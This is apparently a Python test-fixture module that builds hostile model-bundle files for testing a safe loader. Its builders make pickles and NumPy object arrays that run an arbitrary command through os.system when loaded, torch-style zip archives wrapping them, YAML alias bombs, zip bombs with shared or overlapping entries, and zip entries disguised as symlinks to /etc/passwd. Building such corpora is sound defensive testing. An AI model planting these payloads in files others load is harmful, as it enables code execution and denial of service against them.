"""What strangers put into files to harm those who open them: the pieces that several corpora of bundles are made of."""

from __future__ import annotations

import io
import os
import pickle
import stat
import struct
import zipfile
from collections.abc import Callable

import numpy as np

Files = dict[str, bytes]

#: eight texts, each alias nine times the one before
ALIAS_BOMB = "a: &a [x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join('*' + before for _ in range(9))}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
#: the number that torch's old format begins with, and how else it is made: by a call that plain values may hold too
OLD_TORCH = 0x1950A86A20F9469CFC6C
OLD_TORCH_BY_CALL = b"cbuiltins\nint\n(S'%d'\ntR.I1001\n.(d." % OLD_TORCH


class Calls:
    """Pickles to a call of ``name`` with ``arguments``, as ``object.__reduce__`` lets anything do."""

    def __init__(self, call: Callable[..., object], *arguments: object) -> None:
        self.call, self.arguments = call, arguments

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.call, self.arguments


def pickled_command(command: str, protocol: int = 2) -> bytes:
    """A pickle that starts a program."""
    return pickle.dumps(Calls(os.system, command), protocol)


def torch_archive(pickled: bytes, **more: bytes) -> bytes:
    """What ``torch.load`` takes for its own: a zip around a pickle; in names of further records ``__`` is a slash."""
    records = {f"model/{name.replace('__', '/')}": content for name, content in more.items()}
    return zip_of({"model/data.pkl": pickled, "model/version": b"3\n", **records})


def array_of_objects(command: str) -> bytes:
    """NumPy's file of an array whose element starts a program when it is loaded."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([Calls(os.system, command)], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def zip_of(files: Files, *, more: list[tuple[zipfile.ZipInfo, bytes]] | None = None, method: int = 0) -> bytes:
    """A zip, as any program writes one; ``more`` are entries with records of their own."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
        for info, content in more or []:
            archive.writestr(info, content)
    return buffer.getvalue()


def with_name(name: str) -> Callable[[Files], bytes]:
    """A bundle's zip with one more entry, of a name that no writer would give it."""

    def make(files: Files) -> bytes:
        info = zipfile.ZipInfo("x")
        info.filename = name
        return zip_of(files, more=[(info, b"evil")])

    return make


def with_mode(mode: int, content: bytes = b"/etc/passwd") -> Callable[[Files], bytes]:
    """A bundle's zip with one more entry, which says of itself that it is no plain file."""

    def make(files: Files) -> bytes:
        info = zipfile.ZipInfo(f"{_top(files)}/more")
        info.create_system, info.external_attr = 3, mode << 16
        return zip_of(files, more=[(info, content)])

    return make


with_link = with_mode(stat.S_IFLNK | 0o777)


def with_a_name_twice(files: Files) -> bytes:
    """A bundle's zip with two licences."""
    return zip_of({**files, f"{_top(files)}/LICENSF": b"another"}).replace(b"LICENSF", b"LICENSE")


def with_shared_bytes(files: Files) -> bytes:
    """A bundle's zip with two entries that share one file's bytes: how the densest bombs are made."""
    data = bytearray(zip_of({**files, f"{_top(files)}/x": b"evil"}))
    central = [i for i in range(len(data)) if data[i : i + 4] == b"PK\1\2"]
    struct.pack_into("<L", data, central[-1] + 42, struct.unpack_from("<L", data, central[-2] + 42)[0])
    return bytes(data)


def with_bomb(size: int) -> Callable[[Files], bytes]:
    """A bundle's zip with one more entry, of so many zeros."""
    return lambda files: zip_of({**files, f"{_top(files)}/zeros.txt": bytes(size)}, method=zipfile.ZIP_DEFLATED)


def with_many(files: Files) -> bytes:
    """A bundle's zip with more entries than any bundle has."""
    return zip_of({**files, **{f"{_top(files)}/{i}.txt": b"" for i in range(10_001)}})


def _top(files: Files) -> str:
    return next(iter(files)).partition("/")[0]
